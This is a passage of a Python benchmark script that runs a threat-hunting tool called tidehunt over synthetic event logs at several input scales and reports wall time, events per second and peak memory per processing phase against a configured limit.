            "findings": rep.get("findings_count"), "incidents": st.get("incidents")}


def phase_peaks(r: dict[str, Any], st: dict[str, Any]) -> dict[str, int]:
    """Peak tree RSS (MiB) in each phase, placing the stage timings on the RSS series.

    The hunt's own clock starts after the interpreter's start-up, taken as the wall time
    not covered by the stages (less ~0.3 s to exit); placed to within a second or so.
    """
    sec = st["seconds"] or {}
    sig = st["sigma"] or {}
    ana_s = max(0.0, sec.get("detect", 0) - sum(sig.values()))
    order = [("ingest", sec.get("ingest", 0)), ("rules wait", sec.get("rules", 0)),
             ("match", sig.get("match", 0)), ("findings", sig.get("findings", 0)),
             ("correlations", sig.get("correlate", 0)), ("intel + analytics", ana_s),
             ("posture, write, report", sec.get("write", 0))]
    t = max(0.0, r["wall_s"] - sum(s for _, s in order) - 0.3)
    bounds = [("start-up", 0.0, t)]
    for name, s in order:
        bounds.append((name, t, t + s))
        t += s
    out: dict[str, int] = {}
    for name, a, b in bounds:
        vals = [m + k for ts, m, k in r["rss_series"] if a <= ts < b]
        if vals:
            out[name] = max(vals)
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--scales", type=int, nargs="+", default=[1, 10, 100],
                    help=f"input sizes in units of {FILES_PER_X} files (1x ~ 100 MB)")
    ap.add_argument("--max-memory", default="2GB", help="the hunt's --max-memory (and the "
                    "limit the peak is checked against)")
    ap.add_argument("--seed", type=int, default=11)
    ap.add_argument("--events-per-file", type=int, default=EVENTS_PER_FILE)
    ap.add_argument("--out", type=Path, help="data and cases here (default: a temporary "
                    "folder); the generated pool is kept there and reused")
    ap.add_argument("--keep", action="store_true", help="keep the evidence folders and cases")
    ap.add_argument("--workers", type=int, help="tidehunt --workers (default: its own)")
    ap.add_argument("--rules", action="append", default=[], metavar="DIR",
                    help="rule folders for the hunt (default: the bundled pack)")
    ap.add_argument("--json", type=Path, help="write the results here")
    args = ap.parse_args()
    from tidehunt.memory import size_bytes

    limit = size_bytes(args.max_memory)
    work = args.out or Path(tempfile.mkdtemp(prefix="tidehunt-bench-mem-"))
    work.mkdir(parents=True, exist_ok=True)
    need = FILES_PER_X * max(args.scales)
    free = shutil.disk_usage(work).free
    est = need * args.events_per_file * 1300  # JSON ~1 KB an event, Parquet and slack
    if free < est:
        raise SystemExit(f"{work}: {free / 2**30:.1f} GiB free, about {est / 2**30:.1f} GiB "
                         "needed (the JSON plus the case's Parquet)")
    tidehunt = str(ROOT / ".venv" / "bin" / "tidehunt")
    env = dict(os.environ, TIDEHUNT_CACHE_DIR=str(work / "cache"),
               TIDEHUNT_DATA_DIR=str(work / "data"))
    base = [tidehunt, "-q", *(["--workers", str(args.workers)] if args.workers else [])]
    rule_args = [a for r in args.rules for a in ("--rules", str(r))]
    results: dict[str, Any] = {
        "date": datetime.now(UTC).strftime("%Y-%m-%d"), "cores": os.cpu_count(),
        "mem_gib": round(os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 2**30),
        "max_memory": args.max_memory, "limit_mib": limit >> 20, "runs": []}
    try:
        print(f"generating/reusing {need} files of {args.events_per_file:,} events in "
              f"{work / 'pool'}", flush=True)
        pool = ensure_pool(work, need, args.seed, args.events_per_file)
        # warm the compiled-plan cache (and the bundled intel) on a small slice, unmeasured
        tiny = work / "tiny"
        tiny.mkdir(exist_ok=True)
        with open(work / "pool" / pool_name(0), "rb") as src:
            (tiny / "one.json").write_bytes(b"".join(src.readline() for _ in range(2000)))
        shutil.rmtree(work / "case-tiny", ignore_errors=True)
        w = run_measured([*base, "hunt", str(tiny), "-o", str(work / "case-tiny"),
                          *rule_args], env)
        print(f"warm-up (plan compiled and cached): {w['wall_s']} s", flush=True)
        for scale in args.scales:
            ev = evidence(work, scale)
            n_files = FILES_PER_X * scale
            size = sum(pool["sizes"][:n_files])
            events = n_files * args.events_per_file
            case = work / f"case-x{scale}"
            shutil.rmtree(case, ignore_errors=True)
            cmd = [*base, "hunt", str(ev), "-o", str(case), "--max-memory", args.max_memory,
                   *rule_args]
            print(f"{scale}x: {n_files} files, {size / 2**30:.2f} GiB, {events:,} events: "
                  f"{' '.join(cmd[1:])}", flush=True)
            r = run_measured(cmd, env)
            st = stages(case)
            r.update(scale=scale, files=n_files, bytes=size, events=events,
                     cmd=" ".join(["tidehunt", *cmd[1:]]), stages=st,
                     events_per_s=round(events / r["wall_s"]),
                     under_limit=r["peak_tree_mib"] * 2**20 < limit,
                     case_mib=round(sum(p.stat().st_size for p in case.rglob("*")
                                        if p.is_file()) / 2**20),
                     phase_peak_mib=phase_peaks(r, st))
            results["runs"].append(r)
            print(json.dumps({k: v for k, v in r.items() if k not in ("output", "rss_series")}),
                  flush=True)
            if not args.keep:
                shutil.rmtree(case, ignore_errors=True)
                shutil.rmtree(ev, ignore_errors=True)
    finally:
        if not args.keep and not args.out:
            shutil.rmtree(work, ignore_errors=True)
        elif not args.keep:
            for d in work.glob("case-*"):
                shutil.rmtree(d, ignore_errors=True)
            for d in work.glob("x*"):
                shutil.rmtree(d, ignore_errors=True)
    if args.json:
        args.json.write_text(json.dumps(results, indent=2))
    print(f"\n{results['cores']} cores, {results['mem_gib']} GiB, --max-memory "
          f"{args.max_memory} ({limit >> 20:,} MiB)")
    print("| scale | files | GiB | events | wall s | events/s | peak tree MiB (main / workers) "
          "| under limit | findings | stages s |")
    print("|---|---:|---:|---:|---:|---:|---:|---|---:|---|")
    for r in results["runs"]:
        st = r["stages"]
        sec = dict(st["seconds"] or {})
        stages_txt = ", ".join(f"{k} {v}" for k, v in sec.items())
        if st["sigma"]:
            stages_txt += "; sigma: " + ", ".join(f"{k} {v}" for k, v in st["sigma"].items())
        print(f"| {r['scale']}x | {r['files']} | {r['bytes'] / 2**30:.2f} | {r['events']:,} | "
              f"{r['wall_s']} | {r['events_per_s']:,} | {r['peak_tree_mib']:,} "
              f"({r['peak_main_mib']:,} / {r['peak_workers_mib']:,}) | "
              f"{'yes' if r['under_limit'] else 'NO'} | {st['findings']:,} | {stages_txt} |")
    for r in results["runs"]:
        print(f"{r['scale']}x peak by phase (MiB): "
              + ", ".join(f"{k} {v:,}" for k, v in r["phase_peak_mib"].items()))


if __name__ == "__main__":
    main()
